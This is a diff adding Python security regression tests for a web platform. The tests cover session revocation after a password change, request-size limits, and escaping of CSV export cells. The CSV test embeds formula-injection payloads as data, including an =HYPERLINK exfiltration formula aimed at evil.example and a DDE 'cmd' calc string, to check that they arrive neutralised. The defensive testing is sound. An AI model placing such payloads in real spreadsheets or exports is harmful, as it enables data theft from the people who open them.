@@ -1,0 +1,65 @@
+"""A second attack on the platform (after issue 12): each hole found, reproduced as the
+attacker did it, and now refused.  Expectations are derived from the input each test sends."""
+from __future__ import annotations
+
+import csv
+import io
+
+from app.audit import operations as audit
+from app.auth import operations as auth_ops
+from app.security import csv_cell
+from tests.conftest import PASSWORD, csrf_from, login, user
+
+
+def _post(client, url, data, page_url=None, **kw):
+    page = client.get(page_url or url).get_data(as_text=True)
+    return client.post(url, data={**data, "csrf_token": csrf_from(page)}, **kw)
+
+
+def test_a_password_change_ends_the_api_token_and_the_other_sessions(app, dbs):
+    """The holder changes a password they think is known: the token issued before, and a
+    session signed in elsewhere, stop working; the session that changed it goes on."""
+    token = auth_ops.issue_api_token(None, user("exchange"))
+    dbs.flush()
+    elsewhere, here = app.test_client(), app.test_client()
+    assert login(elsewhere, "exchange").status_code == 302
+    assert login(here, "exchange").status_code == 302
+    r = _post(here, "/account/password", {"old": PASSWORD, "new": "a-new-password-9"})
+    assert r.status_code == 303
+    api = app.test_client().get("/api/me", headers={"Authorization": f"Bearer {token}"})
+    assert api.status_code == 401
+    assert elsewhere.get("/account/password").status_code == 302  # to the sign-in page
+    assert here.get("/account/password").status_code == 200
+
+
+def test_a_body_over_the_request_limit_is_refused_before_it_is_read(app):
+    """Anyone could make a worker buffer a 2 GB JSON body (or spool a 2 GB form) on any route,
+    /login included: one byte over the limit is now 413."""
+    limit = app.config["MAX_CONTENT_LENGTH"]
+    assert limit <= 64 * 1024 ** 2
+    body = b'{"a":"' + b"x" * (limit - 7) + b'"}'
+    assert len(body) == limit + 1
+    c = app.test_client()
+    for url in ("/login", "/report", "/api/me"):
+        assert c.post(url, data=body, content_type="application/json").status_code == 413, url
+    form = {"what_happened": "x" * (limit + 1)}
+    assert c.post("/report", data=form).status_code == 413
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(app, login_as, dbs):
+    """A reason typed into a refused action comes back in the compliance CSV an auditor opens
+    in Excel/WPS: it must arrive as text, not as =HYPERLINK(...)."""
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    audit.record(user("officer"), "withdrawal.refused", "withdrawal", 1, {"rule": "attack"},
+                 payload)
+    dbs.flush()
+    r = login_as("auditor").get("/compliance.csv")
+    assert r.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff")))
+             for c in row]
+    mine = [c for c in cells if payload in c]
+    assert mine and all(c == "'" + payload for c in mine)
+    for cell in ("+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "＝1+1"):
+        assert csv_cell(cell) == "'" + cell
+    for cell in ("-12", "+8.5", "张三", "140404", 7, None):
+        assert csv_cell(cell) == cell
